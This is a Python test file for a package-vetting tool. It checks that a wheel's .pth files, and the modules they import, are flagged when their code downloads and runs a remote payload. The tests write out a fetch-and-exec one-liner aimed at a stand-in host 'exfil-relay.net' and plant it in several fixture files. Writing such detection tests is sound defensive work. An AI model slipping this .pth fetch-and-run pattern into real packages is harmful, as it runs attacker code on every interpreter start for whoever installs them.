"""Attack on vet's reading of a wheel's ``.pth`` files: the code in them was never analysed.

Python's ``site`` runs every line of a ``.pth`` file in site-packages that starts with
``import`` (``exec`` of the whole line, ``;`` and all) at every interpreter start, and pip
installs a wheel's ``.pth`` there as it is. vet noted such a line as dynamic code
(information on first look) and read nothing of it: a wheel whose ``relay_mcp_hook.pth`` was
``import urllib.request; exec(urllib.request.urlopen(URL).read())`` was vetted ``pass`` on
first look, and so was one whose ``.pth`` line imported a module it ships in ``tests/``
(read as a fixture nobody loads). The code lines are now analysed as code that runs, a line
that does not parse does not hide the others, and the modules they import are followed.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from mcpward.vet import VetOptions, run_vet

FETCH_AND_RUN = 'import urllib.request; exec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())'


def _wheel(path: Path, files: dict[str, str]) -> Path:
    from vet_fixtures import wheel

    path.write_bytes(wheel("relay_mcp", "1.0.1", {"relay_mcp/__init__.py": "X = 1\n", **files}))
    return path


def _verdict(tmp_path: Path, files: dict[str, str]) -> tuple[str, set[tuple[str, str]]]:
    report = run_vet(VetOptions(target=str(_wheel(tmp_path / "b.whl", files)), cache_dir=tmp_path / "c"))
    return report.verdict, {(f.rule, f.severity.value) for f in report.findings}


@pytest.mark.parametrize(
    "files",
    [
        {"relay_mcp_hook.pth": FETCH_AND_RUN + "\n"},
        {"relay_mcp_hook.pth": "relay_mcp\n" + FETCH_AND_RUN + "\nimport (\n"},
        {"relay_mcp-1.0.1.data/purelib/zz.pth": FETCH_AND_RUN + "\n"},
        {"zz.pth": "import tests\n", "tests/__init__.py": FETCH_AND_RUN + "\n"},
        {"zz.pth": "import docs.boot\n", "docs/__init__.py": "", "docs/boot.py": FETCH_AND_RUN + "\n"},
    ],
    ids=[
        "code line",
        "between a folder and a broken line",
        "in the wheel's data",
        "imports tests/",
        "imports docs/",
    ],
)
def test_code_a_pth_file_runs_at_every_start_is_analysed(tmp_path: Path, files: dict[str, str]) -> None:
    verdict, findings = _verdict(tmp_path, files)
    assert ("download-and-run", "critical") in findings, findings
    assert verdict == "block"


def test_a_pth_file_that_only_adds_folders_or_imports_a_harmless_module_passes(tmp_path: Path) -> None:
    """The clean side: setuptools' and editable installs' ``.pth`` files."""
    verdict, findings = _verdict(
        tmp_path,
        {
            "relay_mcp.pth": "/opt/relay/src\n# a comment\n",
            "distutils-precedence.pth": (
                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
                "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
            ),
            "_distutils_hack/__init__.py": "import sys\n\ndef add_shim():\n    sys.meta_path.insert(0, object())\n",
        },
    )
    assert verdict == "pass", findings
